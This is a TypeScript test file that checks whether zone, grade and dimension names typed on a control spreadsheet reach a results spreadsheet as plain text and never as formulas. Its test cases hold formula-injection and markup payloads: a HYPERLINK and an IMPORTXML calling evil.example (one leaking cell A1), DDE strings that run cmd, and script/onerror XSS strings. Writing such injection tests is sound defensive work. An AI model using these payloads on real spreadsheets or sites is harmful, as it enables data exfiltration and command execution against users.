/**
 * Names typed on the control sheet that a spreadsheet would run as formulas (`=HYPERLINK(...)`, `+cmd`, `@SUM`,
 * `-2+3`) or a browser as markup (`<script>`), and a name at Google's 50,000-character limit: put in force as a
 * methodologist would (draft, then Settings `live`), each must reach the results spreadsheet as the literal text,
 * a `stringValue` and never a formula. (How the web page shows them is the workspace's end-to-end test.)
 */
import type { sheets_v4 } from '@googleapis/sheets';
import { DRIVE_ADMIN } from '../../local/seed';
import { type CaseResult, crashed, result } from './cases';
import { crashes, EVALUATION, failedSoFar, type World } from './world';

export type ResultsTextCase = {
  name: string;
  /** The control sheet's cell, and what is typed there (a leading `'` keeps the control sheet from running it). */
  range: string;
  input: string;
  /** The text that must be published: a cell equal to it, or (a header joining code and name) containing it. */
  literal: string;
  match: 'equals' | 'contains';
};

const t = (
  name: string,
  range: string,
  literal: string,
  match: 'equals' | 'contains' = 'equals',
): ResultsTextCase => ({
  name,
  range,
  input: /^[=+\-@']/.test(literal) ? `'${literal}` : literal,
  literal,
  match,
});

/** Zones rows 2 to 11 hold the seeded zones (A zone_id, B name_en, C name_zh, D province). */
export const RESULTS_TEXT_CASES: readonly ResultsTextCase[] = [
  t(
    'a zone name that is a HYPERLINK formula',
    'Zones!B2',
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  ),
  t('a Chinese name beginning with + (a DDE command)', 'Zones!C3', "+cmd|' /C calc'!A0"),
  t('a province beginning with @', 'Zones!D4', "@SUM(1+1)*cmd|' /C calc'!A0"),
  t('a zone name beginning with -', 'Zones!B5', "-2+3+cmd|' /C calc'!A0"),
  t('a zone name holding a script tag', 'Zones!B6', '<script>alert(1)</script>'),
  t('a Chinese name holding an HTML element', 'Zones!C7', '<img src=x onerror=alert(1)>'),
  t('a zone name of 50,000 characters', 'Zones!B8', `${'长'.repeat(49_999)}!`),
  t('a grade label that is a formula', 'Grades!B2', '=HYPERLINK("http://evil.example/","A")'),
  t(
    'a dimension name that is a formula',
    'Aggregates!B2',
    '=IMPORTXML("http://evil.example/","//a")',
    'contains',
  ),
];

/** Every cell of the results spreadsheet as entered. */
async function resultCells(world: World): Promise<sheets_v4.Schema$ExtendedValue[]> {
  const res = await world.system.spreadsheets.get({
    spreadsheetId: world.year.resultsId,
    includeGridData: true,
    fields: 'sheets.data.rowData.values(userEnteredValue)',
  });
  return (res.data.sheets ?? []).flatMap((s) =>
    (s.data ?? []).flatMap((d) =>
      (d.rowData ?? []).flatMap((r) =>
        (r.values ?? []).flatMap((v) => (v.userEnteredValue ? [v.userEnteredValue] : [])),
      ),
    ),
  );
}

/** Types every name, puts the draft in force, and checks the results spreadsheet. */
export async function runResultsText(world: World, cases: readonly ResultsTextCase[]): Promise<CaseResult[]> {
  const sid = world.year.controlId;
  const store = world.runtime.stack.store;
  const since = failedSoFar(world);
  try {
    for (const [k, c] of cases.entries()) {
      if (k < cases.length - 1)
        world.runtime.stack.emulator.writeAs(DRIVE_ADMIN, sid, c.range, [[c.input]], 'USER_ENTERED');
      else await world.runtime.stack.emulator.editAsPerson(sid, DRIVE_ADMIN, c.range, [[c.input]]);
    }
    await world.quiet();
    const draft = (await store.getGovernance(EVALUATION)).draft;
    if (!draft) throw new Error('the names made no draft: the control sheet refused them');
    const settings = await world.tab(sid, 'Settings');
    const row = settings.length + 1;
    await world.runtime.stack.emulator.editAsPerson(sid, DRIVE_ADMIN, `Settings!A${row}:B${row}`, [
      ['live', draft.version],
    ]);
    await world.quiet();
    const now = (await store.getEvaluationState(EVALUATION))?.methodologyVersion;
    if (now !== draft.version)
      throw new Error(`the draft ${draft.version} was not put in force (in force: ${now})`);
    const cells = await resultCells(world);
    const formulas = cells.filter((v) => v.formulaValue !== undefined && v.formulaValue !== null);
    const crash = crashes(world, since);
    return cases.map((c) => {
      const found = cells.some((v) =>
        c.match === 'equals' ? v.stringValue === c.literal : (v.stringValue ?? '').includes(c.literal),
      );
      const mismatches = [...crash];
      if (!found)
        mismatches.push(
          `no cell of the results spreadsheet holds the text ${JSON.stringify(c.literal.slice(0, 60))}`,
        );
      if (formulas.length)
        mismatches.push(
          `the results spreadsheet holds ${formulas.length} formulas, e.g. ${formulas[0]!.formulaValue}`,
        );
      return result(c.name, 'results text', mismatches);
    });
  } catch (e) {
    return cases.map((c) => crashed(c.name, 'results text', e));
  }
}
